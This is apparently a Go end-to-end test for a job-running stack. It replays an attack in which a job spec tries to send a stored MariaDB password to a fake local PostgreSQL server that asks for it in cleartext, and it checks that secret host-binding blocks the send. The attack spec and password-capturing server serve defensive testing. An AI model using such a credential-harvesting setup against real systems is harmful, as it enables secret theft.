package e2e

import (
	"context"
	"encoding/json"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgproto3"
	"github.com/stretchr/testify/require"

	"github.com/secure-agent/secure-agent/deploy/local/stack"
	"github.com/secure-agent/secure-agent/libs/job"
)

// TestStolenSecretGoesNowhere replays issue 10's attack on a running stack:
// a job pairs the stored MariaDB password with a host of its choosing,
// where a fake PostgreSQL server asks for the password in cleartext. The
// secret is bound to MariaDB's address, so the job fails naming the secret,
// the host and how to bind it, and the fake server never sees a
// connection. The job goes in through agentctl, which finds the job API
// token in the stack's data dir; without it the API refuses.
func TestStolenSecretGoesNowhere(t *testing.T) {
	t.Parallel()
	r := root(t)
	fake := newCleartextPostgres(t)
	canary := "canary-" + randomHex(t, 12)

	dataDir := t.TempDir()
	secrets, err := json.Marshal(map[string]string{
		"mariadb-password":               canary,
		"mariadb-password:allowed_hosts": "127.0.0.1:3306",
		"controlplane-client-id":         "test-client",
		"controlplane-client-secret":     "test-secret-" + randomHex(t, 8),
	})
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(dataDir, "secrets.json"), secrets, 0o600))
	s, err := stack.Start(context.Background(), stack.Options{
		Root: r, DataDir: dataDir, Profile: "local", PortBase: 29000, StartTimeout: 3 * time.Minute, Progress: &testLog{t: t},
	})
	require.NoError(t, err)
	supervise(t, s, dataDir)

	fi, err := os.Stat(stack.APITokenFile(dataDir))
	require.NoError(t, err)
	require.Equal(t, os.FileMode(0o600), fi.Mode().Perm(), "the job API token file")

	agentctl := func(env []string, args ...string) (int, string) {
		t.Helper()
		cmd := exec.Command(filepath.Join(r, "bin", "agentctl"), append(args, "--orchestrator", s.AppURL("orchestrator"))...)
		cmd.Dir = t.TempDir() // no ./data here: the token comes from env
		cmd.Env = append(os.Environ(), env...)
		out, err := cmd.CombinedOutput()
		var exit *exec.ExitError
		if err != nil {
			require.ErrorAs(t, err, &exit, "%s", out)
			return exit.ExitCode(), string(out)
		}
		return 0, string(out)
	}

	code, out := agentctl([]string{"SA_DATA_DIR=" + t.TempDir()}, "list")
	require.Equal(t, 1, code, "%s", out)
	require.Contains(t, out, "Authorization: Bearer <token>")
	require.Contains(t, out, "agentctl sent no token")
	require.NotContains(t, out, s.APIToken())

	spec := filepath.Join(t.TempDir(), "steal.yaml")
	require.NoError(t, os.WriteFile(spec, []byte(strings.Join([]string{
		"version: 1",
		"name: steal",
		"connection: default/postgres/steal",
		"source:",
		"  kind: postgres",
		"  dsn: 'postgres://reader@" + fake.addr + "/app?sslmode=disable'",
		"  password: {store: secrets, key: mariadb-password}",
		"",
	}, "\n")), 0o600))
	code, out = agentctl([]string{"SA_DATA_DIR=" + dataDir}, "run", spec, "--wait", "--timeout", "2m")
	require.Equal(t, 1, code, "the job must fail: %s", out)
	require.Contains(t, out, `secret "mariadb-password" in store "secrets" may only be sent to 127.0.0.1:3306`)
	require.Contains(t, out, fake.addr)
	require.Contains(t, out, "nothing was sent")
	require.NotContains(t, out, canary)

	a := agent{t: t, s: s}
	var list job.List
	ans := doWith(t, "GET", a.url("/v1/jobs"), a.bearer())
	ans.JSON(t, &list)
	require.Len(t, list.Jobs, 1)
	st := a.wait(list.Jobs[0].ID, time.Minute)
	require.Equal(t, job.Failed, st.State)
	require.Zero(t, fake.accepted.Load(), "the fake PostgreSQL server got a connection")
	requireNowhere(t, dataDir, canary)

	// What the chart's `helm test` runs, here directly against health with
	// the stack's job API token: one broker round trip through every app.
	probe := exec.Command(filepath.Join(r, "bin", "agentctl"), "probe-broker", "--health", s.AppURL("health"), "--wait", "1m")
	probe.Dir = t.TempDir()
	probe.Env = append(os.Environ(), "SA_DATA_DIR="+dataDir)
	out2, err := probe.CombinedOutput()
	require.NoError(t, err, "%s", out2)
	require.Regexp(t, `broker round trip ok \(probe [^)]+\): extractor \d+ms, orchestrator \d+ms, publisher \d+ms`, string(out2))
}

// cleartextPostgres accepts connections and asks each for a cleartext
// password, counting connections and keeping what it is sent.
type cleartextPostgres struct {
	addr      string
	accepted  atomic.Int64
	passwords atomic.Int64
}

func newCleartextPostgres(t *testing.T) *cleartextPostgres {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { _ = ln.Close() })
	f := &cleartextPostgres{addr: ln.Addr().String()}
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			f.accepted.Add(1)
			go f.serve(conn)
		}
	}()
	return f
}

func (f *cleartextPostgres) serve(conn net.Conn) {
	defer func() { _ = conn.Close() }()
	be := pgproto3.NewBackend(conn, conn)
	msg, err := be.ReceiveStartupMessage()
	if err != nil {
		return
	}
	if _, ok := msg.(*pgproto3.SSLRequest); ok {
		if _, err := conn.Write([]byte{'N'}); err != nil {
			return
		}
		if _, err = be.ReceiveStartupMessage(); err != nil {
			return
		}
	}
	be.Send(&pgproto3.AuthenticationCleartextPassword{})
	if be.Flush() != nil || be.SetAuthType(pgproto3.AuthTypeCleartextPassword) != nil {
		return
	}
	if msg, err := be.Receive(); err == nil {
		if _, ok := msg.(*pgproto3.PasswordMessage); ok {
			f.passwords.Add(1)
		}
	}
}
